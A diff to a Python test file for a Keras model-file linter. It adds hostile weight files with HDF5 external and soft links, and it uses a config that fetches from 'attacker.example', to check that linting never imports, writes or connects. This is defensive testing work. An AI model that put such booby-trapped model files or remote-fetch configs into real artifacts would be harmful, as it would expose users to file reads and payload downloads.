@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 import json
 import subprocess
 import sys
@@ -18,11 +19,30 @@ from cnnlint.pipeline import LintSettings, lint_source
 SAFETY = LintSettings(tuple(select_rules(["S"])))
 
 
-def write_keras(path: Path, config: dict) -> Path:
+def write_keras(path: Path, config: dict, weights: bytes | None = None) -> Path:
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("config.json", json.dumps(config))
         archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
+        if weights is not None:
+            archive.writestr("model.weights.h5", weights)
     return path
+
+
+def weights_with_links(secret: Path) -> bytes:
+    """model.weights.h5 for an Evil layer: one real dataset, plus an external and a soft link to a big one."""
+    import h5py
+
+    with h5py.File(secret, "w") as handle:
+        handle.create_dataset("data", shape=(1000, 1000), dtype="f4")
+    buffer = io.BytesIO()
+    with h5py.File(buffer, "w") as handle:
+        handle.create_dataset("layers/evil/vars/0", shape=(8,), dtype="f4")
+        handle["layers/evil/vars/1"] = h5py.ExternalLink(str(secret), "/data")
+        handle.create_dataset("big", shape=(1000, 1000), dtype="f4")
+        handle["layers/evil/vars/2"] = h5py.SoftLink("/big")
+        for name in ("dense", "dense_1"):
+            handle.create_group(f"layers/{name}/vars")
+    return buffer.getvalue()
 
 
 def sequential(*layers: dict) -> dict:
@@ -120,15 +140,17 @@ def test_linting_never_imports_writes_or_connects(tmp_path):
         dense("e", kernel_initializer={"module": "keras.utils", "class_name": "function", "config": "get_file",
                                        "url": "https://attacker.example/x"}),
     )  # fmt: skip
-    model = write_keras(tmp_path / "hostile.keras", config)
+    model = write_keras(tmp_path / "hostile.keras", config, weights_with_links(tmp_path / "secret.h5"))
     script = textwrap.dedent(f"""
         import sys
         events = []
         def hook(event, args):
             if event == "open" and len(args) > 1 and isinstance(args[1], str) and any(c in args[1] for c in "wax+"):
                 events.append(("write", str(args[0])))
+            elif event == "subprocess.Popen" and args[0] == "uname" and list(args[1]) == ["uname", "-p"]:
+                pass  # importing h5py asks platform.processor(), which runs `uname -p` on Linux: not from the file
             elif event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system", "os.exec"):
-                events.append((event, str(args[:1])))
+                events.append((event, str(args[:2])))
             elif event == "import" and "evil_module" in str(args[0]):
                 events.append(("import", str(args[0])))
         sys.addaudithook(hook)
@@ -143,8 +165,10 @@ def test_linting_never_imports_writes_or_connects(tmp_path):
     result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=tmp_path, timeout=120)
     assert "EVENTS [] CODE 1" in result.stderr, result.stderr[-2000:]
     assert not marker.exists()
-    found = {f["code"] for f in json.loads(result.stdout)["models"][0]["findings"]}
-    assert {"S402", "S403", "S404", "S405"} <= found
+    report = json.loads(result.stdout)["models"][0]
+    assert {"S402", "S403", "S404", "S405"} <= {f["code"] for f in report["findings"]}
+    evil = next(layer for layer in report["model"]["layers"] if layer["path"] == "evil")
+    assert evil["counted"] and evil["trainable_params"] == 8  # the linked million values were not followed
 
 
 def test_confirm_refuses_foreign_references(tmp_path):
